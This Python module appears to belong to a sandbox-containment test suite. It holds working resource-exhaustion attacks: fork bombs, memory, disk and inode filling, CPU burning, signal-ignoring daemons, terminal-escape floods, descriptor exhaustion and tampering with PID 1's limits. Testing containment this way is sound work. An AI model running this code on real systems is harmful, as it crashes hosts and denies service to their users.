"""Attacks that use up what the host has: processes, memory, disk, processor, output, descriptors."""

import fcntl
import hashlib
import mmap
import os
import resource
import signal
import socket
import sys
import threading
import time

from wall import attempt, raw, say, say_call, word

MIB = 1 << 20


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def forks():
    """Sleeping children until the kernel refuses, then a bomb in each of them."""
    count = 0
    while True:
        try:
            pid = os.fork()
        except OSError as error:
            say("refused", word(error.errno))
            say("children", count)
            bomb()
        if pid == 0:
            time.sleep(0.5)
            bomb()
        count += 1


def threads():
    """Sleeping threads until the kernel refuses."""
    count = 0
    forever = threading.Event()
    while count < 100_000:
        try:
            threading.Thread(target=forever.wait, daemon=True).start()
        except RuntimeError:
            break
        count += 1
    say("threads", count)
    os._exit(0)


def orphans():
    """More orphans than there may be processes, one after the other: whoever is their parent must reap them."""
    for _ in range(200):
        for _ in range(200):
            try:
                pid = os.fork()
                break
            except BlockingIOError:
                time.sleep(0.005)
        else:
            say("orphans", "stuck")
            return 1
        if pid == 0:
            try:
                if os.fork() == 0:
                    os._exit(0)
            except BlockingIOError:
                pass
            os._exit(0)
        os.waitpid(pid, 0)
    say("orphans", "reaped")
    return 0


def take(count, flags=mmap.MAP_SHARED, kept=[]):
    """Holds `count` MiB of touched memory."""
    for _ in range(count):
        room = mmap.mmap(-1, MIB, flags=flags | mmap.MAP_ANONYMOUS)
        for page in range(0, MIB, 4096):
            room[page] = 1
        kept.append(room)


def memory():
    """Memory of its own, touched, without end: such as counts as data, then such as doesn't."""
    taken, flags = 0, mmap.MAP_PRIVATE
    while taken < 4096:
        try:
            take(1, flags)
        except OSError as error:
            say(f"refused {flags}", word(error.errno))
            if flags == mmap.MAP_SHARED:
                return 1
            flags = mmap.MAP_SHARED
        taken += 1
        if taken % 8 == 0:
            say("taken", taken)
    return 0


def memory_spread():
    """Memory in many processes, each of them modest."""
    pids = []
    for _ in range(16):
        pid = os.fork()
        if pid == 0:
            try:
                take(16)
            except OSError:
                os._exit(1)
            time.sleep(0.3)
            os._exit(0)
        pids.append(pid)
    ends = [os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in pids]
    say("lost", sum(end != 0 for end in ends))
    return int(any(ends))


def write_all(descriptor, limit):
    """Writes MiB by MiB until refused or `limit`; bytes and the error as a word."""
    block, done = b"\xaa" * MIB, 0
    while done < limit:
        try:
            done += os.write(descriptor, block)
        except OSError as error:
            return done, word(error.errno)
    return done, "ok"


def fill(where, limit):
    """Writes files in a folder until refused."""
    total, count, end = 0, 0, "ok"
    while total < int(limit) * MIB and end in ("ok", "EFBIG"):
        descriptor = os.open(f"{where}/fill{count}", os.O_WRONLY | os.O_CREAT, 0o600)
        done, end = write_all(descriptor, min(16 * MIB, int(limit) * MIB - total))
        os.close(descriptor)
        total, count = total + done, count + 1
        if done == 0:
            break
    return total, end


def memory_in_files(where, limit):
    """Memory as files of a file system in memory."""
    total, end = fill(where, limit)
    say("bytes", total)
    say("end", end)
    return int(end != "ok")


def memory_in_memfd():
    """Memory as files without a name."""
    kept, total, end = [], 0, "ok"
    while total < 512 * MIB and end == "ok":
        kept.append(os.memfd_create("x"))
        done, end = write_all(kept[-1], 8 * MIB)
        total += done
        say("bytes", total)
    say("end", end)
    return 1


def memory_in_pipes():
    """Memory of the kernel: pipes, filled and never read."""
    kept, total = [], 0
    try:
        while True:
            ends = os.pipe2(os.O_NONBLOCK)
            kept.append(ends)
            try:
                fcntl.fcntl(ends[1], 1031, MIB)  # F_SETPIPE_SZ
            except OSError:
                pass
            done, _ = write_all(ends[1], 2 * MIB)
            total += done
    except OSError as error:
        say("end", word(error.errno))
    say("bytes", total)
    return 1


def memory_in_sockets():
    """Memory of the kernel: datagrams on their way."""
    kept, total = [], 0
    try:
        while True:
            pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
            kept.append(pair)
            for one in pair:
                one.setblocking(False)
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 * MIB)
                done, _ = write_all(one.fileno(), 16 * MIB)
                total += done
    except OSError as error:
        say("end", word(error.errno))
    say("bytes", total)
    return 1


def disk():
    """Fills the scratch space, then whatever else takes a byte."""
    total, end = fill("/tmp", 4096)
    say("bytes", total)
    say("end", end)
    for where in ["/tmp/artifacts", "/", "/dev", "/dev/shm", "/run", "/var/tmp", "/var", "/etc", "/home", "/usr", "/proc", "/sys", "/mnt"]:
        try:
            more, how = fill(where, 64)
            say(f"elsewhere {where}", f"{more} {how}")
        except OSError as error:
            say(f"elsewhere {where}", f"0 {word(error.errno)}")
    return 0


def inodes():
    """Empty files and folders without end."""
    count = 0
    try:
        while count < 1_000_000:
            if count % 2:
                os.mkdir(f"/tmp/d{count}")
            else:
                os.close(os.open(f"/tmp/f{count}", os.O_CREAT | os.O_WRONLY, 0o600))
            count += 1
    except OSError as error:
        say("end", word(error.errno))
    say("files", count)
    return 0


def sparse():
    """A file of a tebibyte that takes no room."""
    descriptor = os.open("/tmp/sparse", os.O_RDWR | os.O_CREAT, 0o600)
    say("truncate", attempt(os.ftruncate, descriptor, 1 << 40))
    say("seek", attempt(os.pwrite, descriptor, b"x", 1 << 40))
    say("allocate", attempt(os.posix_fallocate, descriptor, 0, 1 << 40))
    return 0


def burn():
    block = bytes(MIB)
    while True:
        hashlib.sha256(block).digest()


def spin(count):
    """Computes in many processes and threads."""
    for _ in range(int(count) - 1):
        if os.fork() == 0:
            burn()
    threading.Thread(target=burn, daemon=True).start()
    burn()


def spin_in_orphans():
    """Computes only in processes that nobody of this family waits for, each of them short-lived."""
    while True:
        pid = os.fork()
        if pid == 0:
            for _ in range(4):
                if os.fork() == 0:
                    end, block = time.process_time() + 0.03, bytes(MIB)
                    while time.process_time() < end:
                        hashlib.sha256(block).digest()
                    os._exit(0)
            os._exit(0)
        os.waitpid(pid, 0)
        time.sleep(0.06)


def deaf():
    """Ignores every signal that can be ignored, and never ends."""
    for one in range(1, signal.NSIG):
        try:
            signal.signal(one, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    say("deaf", "yes")
    while True:
        time.sleep(1)


def daemons(channel):
    """Leaves daemons of every kind behind and ends well; `channel` says whether they keep the channel open."""
    for kind in range(6):
        if os.fork():
            continue
        if kind % 2:
            os.setsid()
        if os.fork():
            os._exit(0)
        for one in range(1, signal.NSIG):
            try:
                signal.signal(one, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        raw(157 if os.uname().machine == "x86_64" else 167, 36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
        if channel == "closed":
            for one in (0, 1, 2):
                os.close(one)
        while True:
            time.sleep(1)
            if kind == 5:
                os.fork()
    time.sleep(0.1)
    say("left", 6)
    return 0


def wait_forever(how):
    """Does nothing, in a way of its own."""
    say("waiting", how)
    if how == "sleep":
        time.sleep(1000)
    elif how == "stdin":
        sys.stdin.buffer.read()
        time.sleep(1000)
    elif how == "fifo":
        try:
            os.mkfifo("/tmp/fifo")
        except OSError as error:
            say("fifo", word(error.errno))
            time.sleep(1000)
        os.open("/tmp/fifo", os.O_RDONLY)
    elif how == "stop":
        os.kill(os.getpid(), signal.SIGSTOP)
        time.sleep(1000)
    elif how == "closed":
        for one in (0, 1, 2):
            os.close(one)
        time.sleep(1000)


FLOODS = {
    "line": b"x" * MIB,
    "tiny": b"\n" * 4096,
    "binary": bytes(range(256)) * 4096,
    "escapes": b"\x1b]0;owned\x07\x1b[2J\x1b[31m\xff\xfe\x00\r" * 4096,
}


def flood(descriptor, kind):
    """Writes without end."""
    block = FLOODS[kind]
    while True:
        os.write(int(descriptor), block)


def said_and_done(descriptor, count):
    """Writes exactly so many bytes and ends well."""
    left = int(count)
    while left:
        left -= os.write(int(descriptor), b"y" * min(left, 65536))
    return 0


def descriptors():
    """Opens files until refused; then keeps more of them on their way between sockets."""
    kept = []
    try:
        while len(kept) < 1_000_000:
            kept.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        say("end", word(error.errno))
    say("open", len(kept))
    for one in kept[-20:]:
        os.close(one)
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    ours.setblocking(False)
    sent = 0
    try:
        while sent < 1_000_000:
            socket.send_fds(ours, [b"x"], kept[:100])
            sent += 100
    except OSError as error:
        say("sending", word(error.errno))
    say("sent", sent)
    return 0


def raise_limits():
    """Raises every limit that isn't infinite, of its own and of the first process."""
    for name in sorted(name for name in dir(resource) if name.startswith("RLIMIT_")):
        kind = getattr(resource, name)
        soft, hard = resource.getrlimit(kind)
        say(f"limit {name}", f"{soft} {hard}")
        if hard == resource.RLIM_INFINITY:
            continue
        try:
            resource.setrlimit(kind, (soft, hard + 1))
            say(f"raise {name}", "ok")
        except (OSError, ValueError) as error:
            # Python turns EPERM into a ValueError of its own.
            say(f"raise {name}", word(error.errno) if isinstance(error, OSError) else "EPERM")
    say("raise of 1", attempt(resource.prlimit, 1, resource.RLIMIT_NOFILE, (4, 4)))
    return 0


def locked():
    """Memory that can't be swapped or isn't charged: locked, huge, shared, queued."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    libc.mlock.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
    room = libc.mmap(None, 128 * MIB, 3, 0x22, -1, 0)
    say("lock", word(ctypes.get_errno()) if libc.mlock(room, 128 * MIB) else "ok")
    libc.munmap(ctypes.c_void_p(room), ctypes.c_size_t(128 * MIB))
    huge = libc.mmap(None, 64 * MIB, 3, 0x40022, -1, 0)
    if huge in (None, ctypes.c_void_p(-1).value):
        say("huge", word(ctypes.get_errno()))
    else:
        libc.memset(ctypes.c_void_p(huge), 1, ctypes.c_size_t(64 * MIB))
        say("huge", "ok")
    say_call("queue", "mq_open", ctypes.create_string_buffer(b"prism"), os.O_RDWR | os.O_CREAT, 0o600, 0)
    _, error = raw("shmget", 0x50524953, 4096, 0o1600)
    say("segment", word(error))
    _, error = raw("shmget", 0x50524954, 64 * MIB, 0o5600)
    say("huge segment", word(error))
    return 0


def wake_by_timer():
    """A timer whose signal continues this process, every 20 ms, armed anew each time."""
    import ctypes

    libc = ctypes.CDLL(None)
    event = (ctypes.c_uint64 * 8)()
    event[1] = int(signal.SIGCONT)  # sigev_signo; sigev_notify stays SIGEV_SIGNAL
    timer = ctypes.c_void_p()

    def arm(*_):
        libc.timer_settime(timer, 0, (ctypes.c_long * 4)(0, 20_000_000, 0, 20_000_000), None)

    # Without a handler the signal of a timer is dropped before it continues anything.
    signal.signal(signal.SIGCONT, arm)
    if libc.timer_create(1, event, ctypes.byref(timer)) == 0:
        arm()


def under_freeze(count):
    """Processes that wake themselves and each other, fork and compute."""
    for _ in range(int(count)):
        if os.fork() == 0:
            break
    wake_by_timer()
    say("ready", os.getpid())
    block = bytes(65536)
    while True:
        hashlib.sha256(block).digest()
        for _ in range(100):
            try:
                os.kill(-1, signal.SIGCONT)
            except OSError:
                pass
        try:
            pid = os.fork()
            if pid:
                os.waitpid(pid, os.WNOHANG)
            elif os.getpid() % 3:
                os._exit(0)
        except OSError:
            pass


def limits_of_the_first():
    """Lowers the limits of the process that watches over this one, then ends with 7."""
    for name in ("RLIMIT_CPU", "RLIMIT_NOFILE", "RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_STACK", "RLIMIT_FSIZE", "RLIMIT_NPROC"):
        if hasattr(resource, name):
            say(name, attempt(resource.prlimit, 1, getattr(resource, name), (0, 0)))
    say("nice", attempt(os.setpriority, os.PRIO_PROCESS, 1, 19))
    say("processors", attempt(os.sched_setaffinity, 1, {0}))
    # Work for whoever reaps.
    for _ in range(20):
        if os.fork() == 0:
            if os.fork() == 0:
                os._exit(0)
            os._exit(0)
        os.wait()
    time.sleep(0.2)
    return 7
